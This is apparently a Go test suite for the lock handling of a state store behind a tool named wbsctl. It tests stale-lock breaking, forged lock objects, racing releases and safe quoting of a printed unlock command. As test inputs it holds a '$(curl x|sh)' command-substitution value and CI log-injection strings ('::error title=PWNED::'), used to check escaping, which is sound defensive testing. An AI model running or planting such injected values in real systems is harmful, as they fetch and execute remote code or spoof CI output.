package statestore

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"
)

// A bucket's lock is broken only when the server has not written it for
// the stale time, by the server's clock: a lock taken long ago and
// renewed now (a long run) is refused to a breaker, and so is a lock
// whose holder's own record says it was taken and renewed years ago (a
// holder, or a breaker, whose clock is off). A lock object of no holder
// wbsctl wrote (forged, or damaged) is held by nobody it can name, and
// is broken as stale like any other.
func TestLiveLockIsNotBroken(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	const stale = 2 * time.Second
	eachBucket(t, func(t *testing.T, st store) {
		s := st.open(t)
		holder := NewHolder("apply -f long.csv", "", time.Now().Add(-2*365*24*time.Hour))
		lease, err := s.Lock(ctx, holder, 0)
		if err != nil {
			t.Fatal(err)
		}
		st.advance(stale + time.Second)
		if err := lease.Renew(ctx); err != nil {
			t.Fatal(err)
		}
		breaker := NewHolder("apply -f other.csv", "", time.Now().Add(time.Hour))
		_, err = s.Lock(ctx, breaker, stale)
		var locked *LockedError
		if !errors.As(err, &locked) || locked.Holder == nil || locked.Holder.ID != holder.ID || !strings.Contains(locked.Ends, "by the bucket's clock") {
			t.Fatalf("a lock taken two years ago by its record and renewed now, broken after %v: %v; want it refused, naming its holder and the bucket's clock", stale, err)
		}
		if h, err := s.Holder(ctx); err != nil || h == nil || h.ID != holder.ID {
			t.Fatalf("the lock after a refused break: %+v %v, want its holder's", h, err)
		}
		if err := lease.Release(ctx); err != nil {
			t.Fatal(err)
		}
	})
}

// A forged or damaged lock object is a lock held by nobody wbsctl can
// name: refused, escaped where it is shown, and broken only as stale.
func TestForgedLock(t *testing.T) {
	ctx := context.Background()
	const stale = 2 * time.Second
	eachBucket(t, func(t *testing.T, st store) {
		s := st.open(t).(*Blob)
		for _, note := range []string{
			`{"id":"f00d","host":"x\n::error title=PWNED::forged","operation":"::add-mask::Element","pid":1,"taken":"2020-01-01T00:00:00Z"}`,
			`not json`,
			`{"released":null}`,
		} {
			if _, err := s.objs.put(ctx, s.lockKey(), currentVersion(t, s), []byte(note)); err != nil {
				t.Fatal(err)
			}
			_, err := s.Lock(ctx, NewHolder("apply", "", time.Now()), stale)
			var locked *LockedError
			if !errors.As(err, &locked) {
				t.Fatalf("a lock object %q: %v, want it held", note, err)
			}
			if msg := err.Error(); strings.Contains(msg, "\n") {
				t.Fatalf("the refusal of a lock object %q holds a line break:\n%s", note, msg)
			}
			st.advance(stale + time.Second)
			lease, err := s.Lock(ctx, NewHolder("apply", "", time.Now()), stale)
			if err != nil {
				t.Fatalf("a lock object %q, stale: %v", note, err)
			}
			if lease.Broken() == nil {
				t.Fatalf("a lock object %q broken, but the lease names no broken lock", note)
			}
			if err := lease.Release(ctx); err != nil {
				t.Fatal(err)
			}
		}
	})
}

// currentVersion is the version of the lock object of s, NoVersion where
// there is none.
func currentVersion(t *testing.T, s *Blob) Version {
	t.Helper()
	_, obj, err := s.readLock(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return obj.version
}

// A release, and an unlock, write over the version of the lock they
// read: a lock that another run took meanwhile stays that run's.
func TestReleaseLeavesALockTakenSince(t *testing.T) {
	ctx := context.Background()
	eachBucket(t, func(t *testing.T, st store) {
		s := st.open(t).(*Blob)
		first := NewHolder("apply -f a.csv", "", time.Now())
		lease, err := s.Lock(ctx, first, 0)
		if err != nil {
			t.Fatal(err)
		}
		// Another run takes the lock under the first (as a breaker
		// does), between the first's read and its release.
		second := NewHolder("apply -f b.csv", "", time.Now())
		note, _ := json.Marshal(lockNote{Holder: &second})
		if _, err := s.objs.put(ctx, s.lockKey(), currentVersion(t, s), note); err != nil {
			t.Fatal(err)
		}
		if err := lease.Release(ctx); err != nil {
			t.Fatal(err)
		}
		if err := s.Unlock(ctx, first.ID, true); !errors.Is(err, ErrNotLocked) {
			t.Fatalf("unlock of the first's id: %v, want ErrNotLocked", err)
		}
		if h, err := s.Holder(ctx); err != nil || h == nil || h.ID != second.ID {
			t.Fatalf("after the first's release and unlock: %+v %v, want the second's lock", h, err)
		}
	})
}

// A renewal whose answer was lost landed all the same: the lease's
// version is behind the lock's. The next renewal and the release find
// the lock still naming the run and go on from its version, rather than
// taking the lock for lost and leaving it behind.
func TestLostRenewalAnswerKeepsTheLock(t *testing.T) {
	ctx := context.Background()
	eachBucket(t, func(t *testing.T, st store) {
		s := st.open(t)
		holder := NewHolder("apply -f a.csv", "", time.Now())
		lease, err := s.Lock(ctx, holder, 0)
		if err != nil {
			t.Fatal(err)
		}
		before := lease.(*blobLease).version
		st.advance(time.Second) // a renewal's note differs by its time
		if err := lease.Renew(ctx); err != nil {
			t.Fatal(err)
		}
		lease.(*blobLease).version = before // its answer lost
		st.advance(time.Second)
		if err := lease.Renew(ctx); err != nil {
			t.Fatalf("a renewal after one whose answer was lost: %v", err)
		}
		lease.(*blobLease).version = before
		if err := lease.Release(ctx); err != nil {
			t.Fatal(err)
		}
		if h, err := s.Holder(ctx); err != nil || h != nil {
			t.Fatalf("after the release: %+v %v, want the lock released", h, err)
		}
	})
}

// The command that releases a lock is pasted into a shell as printed: an
// id from a forged lock is quoted, so that it is read back as it is,
// never run or expanded; one wbsctl made is bare.
func TestUnlockCommandIsSafeToPaste(t *testing.T) {
	for id, want := range map[string]string{
		"3f9c2a7d41e0b865": "wbsctl state unlock 3f9c2a7d41e0b865 --state 's3://b/k'",
		"$(curl x|sh)":     `wbsctl state unlock '$(curl x|sh)' --state 's3://b/k'`,
		"?":                `wbsctl state unlock '?' --state 's3://b/k'`,
		"it's\n::error::x": `wbsctl state unlock 'it'\''s\n::error::x' --state 's3://b/k'`,
	} {
		if got := UnlockCommand(id, "'s3://b/k'"); got != want {
			t.Errorf("the lock %q: %s, want %s", id, got, want)
		}
	}
}

// A break is handed on until a run verifies it: a run that broke a lock
// and released it without writing the state after reading everything
// (its plan failed) leaves the break in its release, and the next
// holder's lease names it; once verified, the release hands none on. A
// lock released by state unlock is handed on as a break as well: its run
// may have written after it last wrote the state.
func TestBreakIsHandedOnUntilVerified(t *testing.T) {
	ctx := context.Background()
	const stale = 2 * time.Second
	eachBucket(t, func(t *testing.T, st store) {
		s := st.open(t)
		gone := NewHolder("apply -f gone.csv", "", time.Now())
		if _, err := s.Lock(ctx, gone, 0); err != nil {
			t.Fatal(err)
		}
		st.advance(stale + time.Second)
		breaker, err := s.Lock(ctx, NewHolder("apply -f breaker.csv", "", time.Now()), stale)
		if err != nil || breaker.Broken() == nil {
			t.Fatalf("the break: %v", err)
		}
		if err := breaker.Release(ctx); err != nil {
			t.Fatal(err)
		}
		next, err := s.Lock(ctx, NewHolder("apply -f next.csv", "", time.Now()), 0)
		if err != nil || next.Broken() == nil || next.Broken().Holder.ID != gone.ID {
			t.Fatalf("the run after an unverified break: %v, broken %+v; want the break of %s handed on", err, next.Broken(), gone.ID)
		}
		next.(*blobLease).markVerified()
		if err := next.Release(ctx); err != nil {
			t.Fatal(err)
		}
		last := NewHolder("apply -f last.csv", "", time.Now())
		lease, err := s.Lock(ctx, last, 0)
		if err != nil || lease.Broken() != nil {
			t.Fatalf("the run after a verified break: %v, broken %+v; want none", err, lease.Broken())
		}
		if err := s.Unlock(ctx, last.ID, true); err != nil {
			t.Fatal(err)
		}
		after, err := s.Lock(ctx, NewHolder("apply -f after.csv", "", time.Now()), 0)
		if err != nil || after.Broken() == nil || after.Broken().Holder.ID != last.ID {
			t.Fatalf("the run after an unlock: %v, broken %+v; want the unlocked lock of %s as a break", err, after.Broken(), last.ID)
		}
	})
}

// eachBucket runs test on each store of the suite whose lock a bucket
// keeps, and so may go stale: every one but the local file.
func eachBucket(t *testing.T, test func(t *testing.T, st store)) {
	for name, st := range stores(t) {
		if st.advance != nil {
			t.Run(name, func(t *testing.T) { test(t, st) })
		}
	}
}
